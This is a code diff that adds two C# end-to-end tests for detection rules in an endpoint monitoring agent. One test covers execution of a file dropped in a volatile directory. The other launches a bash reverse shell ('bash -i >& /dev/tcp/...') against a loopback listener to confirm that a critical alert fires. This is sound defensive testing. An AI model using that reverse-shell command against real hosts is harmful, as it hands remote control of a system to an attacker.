@@ -141,4 +141,47 @@ public sealed class ShippedRulesEndToEndTests(ShippedRulesFixture fixture) : ICl
         Assert.Equal(executable, ShippedRulesAgent.Field(alert, "executable"));
         Assert.Equal("process.snapshot", Assert.Single(alert.Sources).TaskType);
     }
+
+    [RootFact(WhyRoot)]
+    public async Task Event_rule_a_file_created_in_a_volatile_directory_and_run_fires_as_it_happens_with_the_process_and_its_writer()
+    {
+        var dropped = Path.Combine(Agent.Volatile, "event-dropper");
+        File.Copy("/usr/bin/sleep", dropped);
+        File.SetUnixFileMode(dropped, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
+        var process = Agent.Start(new ProcessStartInfo(dropped, ["600"]));
+
+        var alert = await Agent.AlertAsync("volatile-file-executed", a => ShippedRulesAgent.Field(a, "executable") == dropped);
+
+        Assert.Equal("event", alert.RuleKind);
+        Assert.Equal(ShippedRulesAgent.Pid(process.Id), ShippedRulesAgent.Field(alert, "pid"));
+        Assert.Equal(ShippedRulesAgent.Pid(Environment.ProcessId), ShippedRulesAgent.Field(alert, "writer_pid"));
+        Assert.Equal(["filesystem_events", "process_events", "watch_lists"], alert.Tables);
+        Assert.Equal(["fsmond", "procmond"], alert.Collectors);
+        Assert.Empty(alert.Sources);
+        Assert.Single(Agent.Alerts, a => a.RuleId == "volatile-file-executed" && ShippedRulesAgent.Field(a, "pid") == ShippedRulesAgent.Pid(process.Id));
+    }
+
+    [RootFact(WhyRoot)]
+    public async Task Event_rule_a_shell_whose_stdin_is_a_tcp_connection_fires_with_the_shell_joined_to_the_connection()
+    {
+        using var listener = new TcpListener(IPAddress.Loopback, 0);
+        listener.Start();
+        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
+        var accepted = listener.AcceptTcpClientAsync();
+        var bash = Agent.Start(new ProcessStartInfo("bash", ["-c", $"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"]) { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true });
+        using var connection = await accepted.WaitAsync(ShippedRulesAgent.Patience);
+        var portText = port.ToString(System.Globalization.CultureInfo.InvariantCulture);
+
+        var alert = await Agent.AlertAsync("shell-stdin-tcp", a => ShippedRulesAgent.Field(a, "remote_port") == portText);
+
+        Assert.Equal("event", alert.RuleKind);
+        var pid = ShippedRulesAgent.Field(alert, "pid");
+        Assert.True(pid == ShippedRulesAgent.Pid(bash.Id) || ShippedRulesAgent.Field(alert, "ppid") == ShippedRulesAgent.Pid(bash.Id), ShippedRulesAgent.Describe(alert));
+        Assert.Equal("bash", ShippedRulesAgent.Field(alert, "name"));
+        Assert.StartsWith("socket:[", ShippedRulesAgent.Field(alert, "stdin"), StringComparison.Ordinal);
+        Assert.Equal("critical", alert.Severity);
+        Assert.Equal(["connection_events", "process_events", "watch_lists"], alert.Tables);
+        Assert.Equal(["netmond", "procmond"], alert.Collectors);
+        Assert.Single(Agent.Alerts, a => a.RuleId == "shell-stdin-tcp" && ShippedRulesAgent.Field(a, "pid") == pid);
+    }
 }
